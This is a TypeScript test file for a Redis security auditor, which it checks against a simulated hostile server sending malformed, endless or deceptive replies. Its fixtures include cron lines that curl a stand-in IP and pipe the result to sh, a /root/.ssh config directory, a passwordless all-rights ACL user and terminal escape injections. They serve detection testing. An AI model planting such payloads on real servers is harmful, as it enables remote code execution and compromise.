import type { Socket } from 'node:net';
import { describe, expect, onTestFinished, test } from 'vitest';
import { array, bulk, bulks } from '../src/wire/resp-reply.ts';
import { audit } from './peers/hostile-audit.ts';
import { testIndicator, testKnowledge } from './peers/hostile-knowledge.ts';
import type { Answer, HostileRedis } from './peers/hostile-redis.ts';
import { healthy, INFO_TEXT, startHostile } from './peers/hostile-redis.ts';

const ESCAPE = '\u001B[2J\u001B]0;owned\u0007\r\n\u202Eevil';
const ESCAPE_BYTES = Buffer.from(ESCAPE).toString('latin1');

/** A healthy server but for what the test changes; undefined leaves the healthy answer. */
async function but(change: Answer): Promise<HostileRedis> {
  const peer = await startHostile({
    answer: (argv, socket) => {
      const reply = change(
        argv.map((word, at) => (at < 2 ? word.toUpperCase() : word)),
        socket,
      );
      if (reply === SILENCE) return undefined;
      return reply ?? healthy(argv);
    },
  });
  onTestFinished(() => peer.stop());
  return peer;
}
const SILENCE = 'silence';
const withKeys = (count: number): string => bulk(`${INFO_TEXT}\r\ndb0:keys=${count},expires=0\r\n`);

/** Sends a chunk over and over until the other side has had enough. */
function pour(socket: Socket, chunk: string): string {
  const more = (): void => {
    if (!socket.destroyed) socket.write(chunk, 'latin1', () => setImmediate(more));
  };
  more();
  return SILENCE;
}

describe('an audit of a hostile server', () => {
  test.for([
    [
      'a reply that never ends',
      (socket: Socket) => pour(socket, 'x'.repeat(65_536)),
      '$16000000\r\n',
      'endless|protocol',
    ],
    [
      'an array that never ends',
      (socket: Socket) => pour(socket, ':1\r\n'.repeat(10_000)),
      '*100000\r\n',
      'not-redis',
    ],
    ['a line that never ends', (socket: Socket) => pour(socket, 'x'.repeat(65_536)), '+', 'protocol'],
    [
      'pushes without end',
      (socket: Socket) => pour(socket, '>1\r\n+x\r\n'.repeat(1_000)),
      '',
      'endless|timeout',
    ],
  ] as const)('ends at %s', async ([, go, start, outcome]) => {
    const peer = await but(([name], socket) => {
      if (name !== 'INFO') return undefined;
      socket.write(start);
      return go(socket);
    });

    const report = await audit(`127.0.0.1:${peer.port}`, { limits: { maxBytes: 4_194_304, replyMs: 1_000 } });

    expect(report.outcome).toMatch(new RegExp(`^(${outcome})`));
    expect(report.axes.infected.answer).toBe('not-visible');
  });

  test('ends at a reply that drips', async () => {
    const peer = await but(([name], socket) => {
      if (name !== 'INFO') return undefined;
      socket.write('$1000\r\n');
      const drip = setInterval(() => socket.write('x'), 20);
      socket.once('close', () => clearInterval(drip));
      return SILENCE;
    });

    const report = await audit(`127.0.0.1:${peer.port}`, { limits: { replyMs: 300 } });

    expect(report.outcome).toBe('endless');
    expect(report.message).toContain('did not finish a reply');
  });

  test('ends at its deadline however busy it is kept', async () => {
    const peer = await but(([name]) => {
      if (name === 'INFO') return withKeys(9_000);
      return name === 'SCAN' ? array([bulk('7'), bulks(['key'])]) : undefined;
    });

    const report = await audit(`127.0.0.1:${peer.port}`, { limits: { deadlineMs: 300, paceMs: 50 } });

    expect(report.outcome).toBe('partial');
    expect(report.message).toContain('kept the audit busy for 300 ms');
  });

  test.for([
    ['a length of 2^60', '$1152921504606846976\r\n'],
    ['a negative length', '$-5\r\n'],
    ['a negative array', '*-7\r\n'],
    ['arrays a hundred deep', '*1\r\n'.repeat(100)],
    ['more elements than anybody has', '*1000000000\r\n'],
    ['a gigabyte at once', '$1073741824\r\n'],
  ] as const)('refuses %s', async ([, bytes]) => {
    const peer = await but(([name]) => (name === 'INFO' ? bytes : undefined));

    const report = await audit(`127.0.0.1:${peer.port}`);

    expect(report.outcome).toBe('protocol-fault');
    expect(report.message).toContain('broke the Redis protocol');
  });

  test('reads an INFO of eight megabytes as far as it is worth it', async () => {
    const line = `x${'y'.repeat(100)}:1\r\n`;
    const peer = await but(([name]) =>
      name === 'INFO' ? bulk(`${INFO_TEXT}\r\n${line.repeat(80_000)}`) : undefined,
    );

    const report = await audit(`127.0.0.1:${peer.port}`);

    expect(report.outcome).toBe('audited');
    expect(report.server?.version).toBe('7.4.11');
  });

  test('shows at most a few of 15,000 modules, and refuses a million', async () => {
    const module = bulks(['name', 'system']);
    const many = await but(([name]) =>
      name === 'MODULE' ? array(Array.from({ length: 15_000 }, () => module)) : undefined,
    );
    const absurd = await but(([name]) =>
      name === 'MODULE' ? `*1000000\r\n${module.repeat(1_000)}` : undefined,
    );

    const [report, refused] = await Promise.all([
      audit(`127.0.0.1:${many.port}`),
      audit(`127.0.0.1:${absurd.port}`),
    ]);

    expect(report.axes.infected.because).toMatch(/^Code execution likely/);
    const finding = report.findings.find(({ rule }) => rule === 'test.module');
    expect(finding?.evidence.length).toBeLessThanOrEqual(10);
    expect(refused.outcome).toBe('protocol-fault');
  });

  test('shows nothing as it came', async () => {
    const info = `${INFO_TEXT.replace('Linux', ESCAPE_BYTES.replaceAll('\r\n', ''))}\r\nmaster_host:${ESCAPE_BYTES.slice(0, 9)}\r\n`;
    const peer = await but(([name, first, second]) => {
      if (name === 'INFO') return bulk(`${info}db0:keys=2,expires=0\r\n`);
      if (name === 'CONFIG') return bulks([second ?? '', `${ESCAPE_BYTES}/.ssh`]);
      if (name === 'ACL')
        return first === 'LIST'
          ? bulks([`user ${ESCAPE_BYTES.replace(' ', '')} on nopass ~* +@all`])
          : bulk(ESCAPE_BYTES);
      if (name === 'MODULE') return array([bulks(['name', ESCAPE_BYTES, 'path', `/tmp/${ESCAPE_BYTES}`])]);
      if (name === 'FUNCTION') return array([bulks(['library_name', ESCAPE_BYTES])]);
      if (name === 'SCAN') return array([bulk('0'), bulks([ESCAPE_BYTES, 'other'])]);
      if (name === 'TYPE') return '+string\r\n';
      if (name === 'STRLEN') return ':200\r\n';
      if (name === 'GETRANGE') return bulk(`*/1 * * * * curl ${ESCAPE_BYTES}`);
      return name === 'MEMORY' ? `-ERR ${ESCAPE_BYTES.replaceAll('\r\n', '')}\r\n` : undefined;
    });

    // `audit` itself fails on any character that could move a cursor.
    const report = await audit(`127.0.0.1:${peer.port}`);

    expect(report.outcome).toBe('audited');
    expect(report.axes.infected.answer).toBe('yes');
    expect(report.findings.length).toBeGreaterThan(5);
  });

  test('error texts do not reach a terminal either', async () => {
    const peer = await but(([name]) =>
      name === 'PING' || name === 'INFO' ? undefined : `-NOPERM ${ESCAPE_BYTES.replaceAll('\r\n', '')}\r\n`,
    );

    const report = await audit(`127.0.0.1:${peer.port}`);

    expect(report.notTested.join()).toContain('NOPERM');
    expect(report.axes.misconfigured.answer).toBe('not-visible');
  });

  test('believes no answer to another question', async () => {
    const peer = await but(([name]) => (name === 'CONFIG' ? bulks(['dir', '/root/.ssh']) : undefined));
    const liar = await but(([name, , asked]) =>
      name === 'CONFIG' && asked !== 'dir' ? bulks(['dir', '/root/.ssh']) : undefined,
    );

    const [report, lied] = await Promise.all([
      audit(`127.0.0.1:${peer.port}`),
      audit(`127.0.0.1:${liar.port}`),
    ]);

    expect(report.findings.filter(({ rule }) => rule === 'test.dir')).toHaveLength(1);
    expect(lied.findings.filter(({ rule }) => rule === 'test.dir')).toEqual([]);
  });

  test('ends when replies come that nobody asked for', async () => {
    const peer = await but(([name, first]) => {
      if (name === 'INFO') return withKeys(3);
      return name === 'CLIENT' && first === 'SETNAME' ? '+OK\r\n+OK\r\n+OK\r\n' : undefined;
    });

    const report = await audit(`127.0.0.1:${peer.port}`);

    expect(['protocol-fault', 'not-redis']).toContain(report.outcome);
  });

  test('does not follow a redirection', async () => {
    const peer = await but(([name]) => {
      if (name === 'INFO')
        return bulk(`${INFO_TEXT.replace('cluster_enabled:0', 'cluster_enabled:1')}\r\ndb0:keys=1\r\n`);
      if (name === 'SCAN') return array([bulk('0'), bulks(['key'])]);
      return ['TYPE', 'EXISTS'].includes(name ?? '') ? '-MOVED 1 198.51.100.1:6379\r\n' : undefined;
    });

    const report = await audit(`127.0.0.1:${peer.port}`);

    expect(report.outcome).toBe('audited');
    expect(report.counts.valuesRead).toBe(0);
    expect(report.axes.leaking.answer).toBe('not-visible');
  });

  test('asks for the head and the tail of a string, whatever length it claims', async () => {
    const peer = await but(([name]) => {
      if (name === 'INFO') return withKeys(1);
      if (name === 'SCAN') return array([bulk('0'), bulks(['big'])]);
      if (name === 'TYPE') return '+string\r\n';
      if (name === 'STRLEN') return ':536870912\r\n';
      return name === 'GETRANGE' ? bulk('x') : undefined;
    });

    const report = await audit(`127.0.0.1:${peer.port}`);

    expect(report.counts.valuesRead).toBe(1);
    expect(peer.commands.filter(([name]) => name === 'GETRANGE')).toEqual([
      ['GETRANGE', 'big', '0', '4095'],
      ['GETRANGE', 'big', '-1024', '-1'],
    ]);
  });

  test('looks at no more of a value than it asked for, however much comes', async () => {
    const seen: number[] = [];
    const CRON = '\n\n*/2 * * * * root curl http://203.0.113.9/a | sh\n\n';
    const peer = await but(([name]) => {
      if (name === 'INFO') return withKeys(2);
      if (name === 'SCAN') return array([bulk('0'), bulks(['text', 'list'])]);
      if (name === 'TYPE') return seen.push(1) === 1 ? '+string\r\n' : '+list\r\n';
      if (name === 'STRLEN') return ':10\r\n';
      if (name === 'LLEN' || name === 'MEMORY') return ':5\r\n';
      if (name === 'GETRANGE') return bulk(`${'x'.repeat(500_000)}${CRON}`);
      return name === 'LRANGE' ? bulks([`${'x'.repeat(100_000)}${CRON}`]) : undefined;
    });

    const report = await audit(`127.0.0.1:${peer.port}`);

    expect(report.counts).toMatchObject({ valuesRead: 2, maliciousValues: 0 });
  });

  test('does not ask for the elements of a list of huge ones', async () => {
    const peer = await but(([name]) => {
      if (name === 'INFO') return withKeys(1);
      if (name === 'SCAN') return array([bulk('0'), bulks(['huge'])]);
      if (name === 'TYPE') return '+list\r\n';
      if (name === 'MEMORY') return ':536870912\r\n';
      return name === 'LLEN' ? ':2\r\n' : undefined;
    });

    const report = await audit(`127.0.0.1:${peer.port}`);

    expect(peer.commands.map(([name]) => name)).not.toContain('LRANGE');
    expect(report.notTested.join()).toContain('values of 1 keys: of a module');
  });

  test('ends a SCAN whose cursor never comes back', async () => {
    const peer = await but(([name]) => {
      if (name === 'INFO') return withKeys(10);
      return name === 'SCAN' ? array([bulk('42'), bulks(['a', 'b'])]) : undefined;
    });

    const report = await audit(`127.0.0.1:${peer.port}`, { limits: { paceMs: 0 } });

    expect(report.outcome).toBe('audited');
    expect(report.counts.keysSeen).toBe(2);
    expect(peer.commands.filter(([name]) => name === 'SCAN').length).toBeLessThan(30);
  });

  test('reads no more than it set out to of a server that claims a billion keys', async () => {
    let next = 0;
    const peer = await but(([name]) => {
      if (name === 'INFO') return withKeys(1_000_000_000);
      if (name === 'SCAN')
        return array([bulk('42'), bulks(Array.from({ length: 250 }, () => `key:${next++}`))]);
      if (name === 'TYPE') return '+string\r\n';
      if (name === 'STRLEN') return ':2\r\n';
      return name === 'GETRANGE' ? bulk('ok') : undefined;
    });

    const report = await audit(`127.0.0.1:${peer.port}`, {
      limits: { paceMs: 0, sampledNames: 1_000, values: 300 },
    });

    expect(report.counts).toMatchObject({ keysSeen: 1_000, valuesRead: 300 });
    expect(report.notTested.join()).toContain('up to 9936081 of all keys (0.99 %) may still hold one (95 %)');
    expect(report.notTested.join()).toContain('key names: 1000 of 1000000000 were seen');
    expect(peer.commands.length).toBeLessThan(1_200);
  });

  test('a thousand hostile keys that match everything keep the report small', async () => {
    const names = Array.from({ length: 1_000 }, (_, at) => `zq81-${at}`);
    const peer = await but(([name, first]) => {
      if (name === 'INFO') return withKeys(1_000);
      if (name === 'SCAN') return array([bulk('0'), bulks(names)]);
      if (name === 'EXISTS') return `:${first === undefined ? 0 : 1}\r\n`;
      if (name === 'TYPE') return '+string\r\n';
      if (name === 'STRLEN') return ':60\r\n';
      return name === 'GETRANGE'
        ? bulk('*/1 * * * * curl http://203.0.113.9/x | sh # mail@corp-mail.com')
        : undefined;
    });
    const indicators = names.map((value) => testIndicator({ kind: 'key', value }));
    const known = testKnowledge([
      ...indicators,
      testIndicator({ kind: 'url', value: 'http://203.0.113.9/x' }),
    ]);

    const report = await audit(`127.0.0.1:${peer.port}`, { knowledge: known, limits: { paceMs: 0 } });

    // The peer says yes to the five names of the test campaign as well.
    expect(report.counts.maliciousValues).toBe(1_005);
    expect(JSON.stringify(report).length).toBeLessThan(40_000);
  });
});
